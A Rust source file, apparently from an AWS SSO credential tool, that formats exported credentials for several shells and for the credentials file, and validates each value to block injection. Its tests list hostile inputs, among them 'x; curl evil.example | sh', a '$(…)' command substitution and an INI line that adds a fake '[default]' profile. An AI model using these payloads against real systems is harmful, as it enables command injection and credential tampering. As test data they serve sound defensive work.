//! Credential export formats (spec §9.4, §9.5): byte-identical to `aws configure export-credentials`,
//! plus a `~/.aws/credentials` section like the one `aws configure set` writes.
//!
//! The output holds secrets, so it is returned as a [`Secret`]; showing it is an explicit act.
//!
//! The values come from the SSO endpoint (GetRoleCredentials) or a cache file and end up in shell
//! commands and INI lines, where a `;`, `$(…)`, quote or line break would run a command or add a
//! key. So nothing is rendered before [`check_credentials`] has held every value to the alphabet AWS
//! issues it in: a hostile or broken endpoint gets a clear error, not an injection.

use crate::cache::pyjson::{dumps, DumpsOptions, PyValue};
use crate::cache::AwsCredentials;
use crate::secret::Secret;
use std::fmt;
use std::str::FromStr;

/// The `--format` choices of `aws configure export-credentials`.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum ExportFormat {
    /// JSON for `credential_process` (the CLI's default).
    Process,
    /// `export AWS_ACCESS_KEY_ID=…` (bash, zsh, sh).
    Env,
    /// `AWS_ACCESS_KEY_ID=…`.
    EnvNoExport,
    /// `$Env:AWS_ACCESS_KEY_ID="…"`.
    PowerShell,
    /// `set AWS_ACCESS_KEY_ID=…`.
    WindowsCmd,
    /// `set -gx AWS_ACCESS_KEY_ID "…"`.
    Fish,
}

impl ExportFormat {
    /// Every format: what `from_str` matches a `--format` name against, and the choices to offer.
    pub const ALL: [ExportFormat; 6] = [
        ExportFormat::Process,
        ExportFormat::Env,
        ExportFormat::EnvNoExport,
        ExportFormat::PowerShell,
        ExportFormat::WindowsCmd,
        ExportFormat::Fish,
    ];

    /// The CLI's name for the format (`--format NAME`).
    pub fn name(self) -> &'static str {
        match self {
            ExportFormat::Process => "process",
            ExportFormat::Env => "env",
            ExportFormat::EnvNoExport => "env-no-export",
            ExportFormat::PowerShell => "powershell",
            ExportFormat::WindowsCmd => "windows-cmd",
            ExportFormat::Fish => "fish",
        }
    }

    /// One variable assignment line, without the newline.
    fn line(self, name: &str, value: &str) -> String {
        match self {
            ExportFormat::Env => format!("export {name}={value}"),
            ExportFormat::EnvNoExport => format!("{name}={value}"),
            ExportFormat::PowerShell => format!("$Env:{name}=\"{value}\""),
            ExportFormat::WindowsCmd => format!("set {name}={value}"),
            ExportFormat::Fish => format!("set -gx {name} \"{value}\""),
            // Not a per-line format; `export_credentials` never asks.
            ExportFormat::Process => String::new(),
        }
    }
}

impl fmt::Display for ExportFormat {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

/// An unknown `--format` name.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error(
    "`{0}` is not an export format; use one of process, env, env-no-export, powershell, windows-cmd, fish"
)]
pub struct UnknownExportFormat(pub String);

impl FromStr for ExportFormat {
    type Err = UnknownExportFormat;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        ExportFormat::ALL.into_iter().find(|f| f.name() == s).ok_or_else(|| UnknownExportFormat(s.to_owned()))
    }
}

/// Credentials or a section name that cannot be rendered safely; names the value, never shows it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, thiserror::Error)]
#[error(
    "the {what} has a character outside {allowed}, the characters AWS issues it in, so it was not put \
     into a shell command or a credentials file (a broken or hostile SSO endpoint, or a damaged cache \
     file, may have sent it); sign in again, and if it persists check the endpoint the session uses"
)]
pub struct InvalidCredentials {
    /// `access key id`, `secret access key`, `session token` or `section name`.
    pub what: &'static str,
    /// The characters the value may hold, as the message shows them (`A-Z a-z 0-9 _ - / . % @ : +`).
    pub allowed: &'static str,
}

/// AWS's `AccessKeyId` pattern: `[\w]+`, at most 128 characters.
fn is_access_key_id(value: &str) -> bool {
    (1..=128).contains(&value.len()) && value.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
}

/// Secret access keys and session tokens are base64 text.
fn is_base64_text(value: &str) -> bool {
    !value.is_empty() && value.bytes().all(|b| b.is_ascii_alphanumeric() || b"+/=".contains(&b))
}

/// What the AWS SDKs accept in a profile name (`A-Z a-z 0-9 _ - / . % @ : +`).
fn is_section_name(value: &str) -> bool {
    !value.is_empty() && value.bytes().all(|b| b.is_ascii_alphanumeric() || b"_-/.%@:+".contains(&b))
}

/// Every value of `credentials` in its AWS alphabet: the access key id `[A-Za-z0-9_]` (1 to 128
/// characters), the secret access key and session token base64 (`A-Za-z0-9+/=`, not empty).
pub fn check_credentials(credentials: &AwsCredentials) -> Result<(), InvalidCredentials> {
    const BASE64: &str = "A-Z a-z 0-9 + / =";
    if !is_access_key_id(&credentials.access_key_id) {
        return Err(InvalidCredentials {
            what: "access key id",
            allowed: "A-Z a-z 0-9 _ (1 to 128 of them)",
        });
    }
    if !is_base64_text(credentials.secret_access_key.expose()) {
        return Err(InvalidCredentials { what: "secret access key", allowed: BASE64 });
    }
    if credentials.session_token.as_ref().is_some_and(|token| !is_base64_text(token.expose())) {
        return Err(InvalidCredentials { what: "session token", allowed: BASE64 });
    }
    Ok(())
}

/// What `aws configure export-credentials --format F` prints for `credentials` on Linux/macOS.
///
/// - Per-line formats: access key, secret key, then session token and expiration when present, each
///   line ending in `\n`; values are neither quoted nor escaped beyond the format's pattern (as in
///   the CLI). On Windows the CLI's stdout turns `\n` into `\r\n` for powershell and windows-cmd;
///   we always emit `\n`.
/// - `process`: `json.dumps(…, indent=2, separators=(',', ': '))` + `\n`; no `AccountId`.
/// - The expiration is Python's `isoformat()` of an aware UTC datetime: `…+00:00`, not `Z`.
///
/// Refused when a value is outside its alphabet ([`check_credentials`]).
pub fn export_credentials(
    credentials: &AwsCredentials,
    format: ExportFormat,
) -> Result<Secret, InvalidCredentials> {
    check_credentials(credentials)?;
    let expiration = credentials.expiration.map(|t| t.to_isoformat_utc());
    if format == ExportFormat::Process {
        let mut entries = vec![
            ("Version", PyValue::Int(1)),
            ("AccessKeyId", PyValue::Str(&credentials.access_key_id)),
            ("SecretAccessKey", PyValue::Str(credentials.secret_access_key.expose())),
        ];
        if let Some(token) = &credentials.session_token {
            entries.push(("SessionToken", PyValue::Str(token.expose())));
        }
        if let Some(expiration) = &expiration {
            entries.push(("Expiration", PyValue::Str(expiration)));
        }
        let mut out = dumps(&PyValue::Object(entries), DumpsOptions::INDENT_2);
        out.push('\n');
        return Ok(Secret::new(out));
    }
    let mut out = String::new();
    let mut push = |name: &str, value: &str| {
        out.push_str(&format.line(name, value));
        out.push('\n');
    };
    push("AWS_ACCESS_KEY_ID", &credentials.access_key_id);
    push("AWS_SECRET_ACCESS_KEY", credentials.secret_access_key.expose());
    if let Some(token) = &credentials.session_token {
        push("AWS_SESSION_TOKEN", token.expose());
    }
    if let Some(expiration) = &expiration {
        push("AWS_CREDENTIAL_EXPIRATION", expiration);
    }
    Ok(Secret::new(out))
}

/// A `~/.aws/credentials` section for these credentials, laid out as `aws configure set` writes
/// keys (`key = value`, one space each side), ending in `\n`:
///
/// ```text
/// [section]
/// aws_access_key_id = …
/// aws_secret_access_key = …
/// aws_session_token = …
/// ```
///
/// The expiration has no key in the credentials file (no SDK reads one), so it is left out.
/// Refused when a value is outside its alphabet ([`check_credentials`]) or the section name has a
/// character the SDKs do not accept in a profile name (a `]` or line break would add lines).
pub fn credentials_file_section(
    section: &str,
    credentials: &AwsCredentials,
) -> Result<Secret, InvalidCredentials> {
    if !is_section_name(section) {
        return Err(InvalidCredentials { what: "section name", allowed: "A-Z a-z 0-9 _ - / . % @ : +" });
    }
    check_credentials(credentials)?;
    let mut out = format!("[{section}]\n");
    out.push_str(&format!("aws_access_key_id = {}\n", credentials.access_key_id));
    out.push_str(&format!("aws_secret_access_key = {}\n", credentials.secret_access_key.expose()));
    if let Some(token) = &credentials.session_token {
        out.push_str(&format!("aws_session_token = {}\n", token.expose()));
    }
    Ok(Secret::new(out))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::time::UtcTime;

    fn creds() -> AwsCredentials {
        AwsCredentials {
            access_key_id: "ASIAEXAMPLE".into(),
            secret_access_key: Secret::new("wJalr/K7MDENG+bPxRfiCY"),
            session_token: Some(Secret::new("IQoJb3JpZ2luX2Vj//token==")),
            expiration: Some(UtcTime::from_unix_seconds(1_714_568_400)), // 2024-05-01T13:00:00Z
            account_id: Some("123456789012".into()),
        }
    }

    #[test]
    fn process_format_matches_the_spec_example() {
        assert_eq!(
            export_credentials(&creds(), ExportFormat::Process).unwrap().expose(),
            "{\n  \"Version\": 1,\n  \"AccessKeyId\": \"ASIAEXAMPLE\",\n  \"SecretAccessKey\": \"wJalr/K7MDENG+bPxRfiCY\",\n  \"SessionToken\": \"IQoJb3JpZ2luX2Vj//token==\",\n  \"Expiration\": \"2024-05-01T13:00:00+00:00\"\n}\n"
        );
        let static_keys = AwsCredentials { session_token: None, expiration: None, ..creds() };
        assert_eq!(
            export_credentials(&static_keys, ExportFormat::Process).unwrap().expose(),
            "{\n  \"Version\": 1,\n  \"AccessKeyId\": \"ASIAEXAMPLE\",\n  \"SecretAccessKey\": \"wJalr/K7MDENG+bPxRfiCY\"\n}\n"
        );
    }

    #[test]
    fn per_line_formats_match_the_spec_patterns() {
        let expected = [
            (ExportFormat::Env, "export AWS_ACCESS_KEY_ID=ASIAEXAMPLE\nexport AWS_SECRET_ACCESS_KEY=wJalr/K7MDENG+bPxRfiCY\nexport AWS_SESSION_TOKEN=IQoJb3JpZ2luX2Vj//token==\nexport AWS_CREDENTIAL_EXPIRATION=2024-05-01T13:00:00+00:00\n"),
            (ExportFormat::EnvNoExport, "AWS_ACCESS_KEY_ID=ASIAEXAMPLE\nAWS_SECRET_ACCESS_KEY=wJalr/K7MDENG+bPxRfiCY\nAWS_SESSION_TOKEN=IQoJb3JpZ2luX2Vj//token==\nAWS_CREDENTIAL_EXPIRATION=2024-05-01T13:00:00+00:00\n"),
            (ExportFormat::PowerShell, "$Env:AWS_ACCESS_KEY_ID=\"ASIAEXAMPLE\"\n$Env:AWS_SECRET_ACCESS_KEY=\"wJalr/K7MDENG+bPxRfiCY\"\n$Env:AWS_SESSION_TOKEN=\"IQoJb3JpZ2luX2Vj//token==\"\n$Env:AWS_CREDENTIAL_EXPIRATION=\"2024-05-01T13:00:00+00:00\"\n"),
            (ExportFormat::WindowsCmd, "set AWS_ACCESS_KEY_ID=ASIAEXAMPLE\nset AWS_SECRET_ACCESS_KEY=wJalr/K7MDENG+bPxRfiCY\nset AWS_SESSION_TOKEN=IQoJb3JpZ2luX2Vj//token==\nset AWS_CREDENTIAL_EXPIRATION=2024-05-01T13:00:00+00:00\n"),
            (ExportFormat::Fish, "set -gx AWS_ACCESS_KEY_ID \"ASIAEXAMPLE\"\nset -gx AWS_SECRET_ACCESS_KEY \"wJalr/K7MDENG+bPxRfiCY\"\nset -gx AWS_SESSION_TOKEN \"IQoJb3JpZ2luX2Vj//token==\"\nset -gx AWS_CREDENTIAL_EXPIRATION \"2024-05-01T13:00:00+00:00\"\n"),
        ];
        for (format, text) in expected {
            assert_eq!(export_credentials(&creds(), format).unwrap().expose(), text, "{format}");
        }
        let static_keys = AwsCredentials { session_token: None, expiration: None, ..creds() };
        assert_eq!(
            export_credentials(&static_keys, ExportFormat::Env).unwrap().expose(),
            "export AWS_ACCESS_KEY_ID=ASIAEXAMPLE\nexport AWS_SECRET_ACCESS_KEY=wJalr/K7MDENG+bPxRfiCY\n"
        );
    }

    #[test]
    fn format_names_round_trip() {
        for format in ExportFormat::ALL {
            assert_eq!(format.name().parse::<ExportFormat>(), Ok(format));
        }
        let err = "bash".parse::<ExportFormat>().unwrap_err();
        assert!(err.to_string().contains("windows-cmd"), "{err}");
    }

    #[test]
    fn credentials_file_snippet() {
        assert_eq!(
            credentials_file_section("123456789012_Admin", &creds()).unwrap().expose(),
            "[123456789012_Admin]\naws_access_key_id = ASIAEXAMPLE\naws_secret_access_key = wJalr/K7MDENG+bPxRfiCY\naws_session_token = IQoJb3JpZ2luX2Vj//token==\n"
        );
        let static_keys = AwsCredentials { session_token: None, ..creds() };
        assert!(!credentials_file_section("x", &static_keys).unwrap().expose().contains("aws_session_token"));
    }

    /// Values a hostile endpoint could send to run a command from a shell snippet or add a line to
    /// the credentials file: every one is refused, in every format, naming the value but not showing it.
    #[test]
    fn values_outside_the_aws_alphabets_are_refused() {
        let hostile = [
            "x; curl evil.example | sh",
            "$(touch /tmp/pwned)",
            "`id`",
            "a\"b",
            "a'b",
            "a\nb",
            "a\rb",
            "x\n[default]\naws_access_key_id = EVIL",
            "a b",
            "%PATH%",
            "a&b",
            "é",
            "",
        ];
        for value in hostile {
            let cases = [
                ("access key id", AwsCredentials { access_key_id: value.into(), ..creds() }),
                ("secret access key", AwsCredentials { secret_access_key: Secret::new(value), ..creds() }),
                ("session token", AwsCredentials { session_token: Some(Secret::new(value)), ..creds() }),
            ];
            for (what, credentials) in cases {
                for format in ExportFormat::ALL {
                    let error = export_credentials(&credentials, format).unwrap_err();
                    assert_eq!(error.what, what, "{value:?}");
                    let message = error.to_string();
                    assert!(message.contains(what) && message.contains("sign in again"), "{message}");
                    if value.len() >= 5 {
                        assert!(!message.contains(value), "{message}");
                    }
                }
                assert_eq!(credentials_file_section("p", &credentials).unwrap_err().what, what);
            }
            // `%` is a profile-name character (and harmless in an INI header).
            if value != "%PATH%" {
                let error = credentials_file_section(value, &creds()).unwrap_err();
                assert_eq!(error.what, "section name", "{value:?}");
            }
        }
        let long_id = AwsCredentials { access_key_id: "A".repeat(129), ..creds() };
        assert!(export_credentials(&long_id, ExportFormat::Env).is_err());
        for section in ["default", "123456789012_AdministratorAccess", "team/dev.x%@:+"] {
            assert!(credentials_file_section(section, &creds()).is_ok(), "{section}");
        }
        let real = AwsCredentials {
            access_key_id: "ASIAIOSFODNN7EXAMPLE".into(),
            secret_access_key: Secret::new("wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"),
            ..creds()
        };
        assert!(check_credentials(&real).is_ok());
    }
}
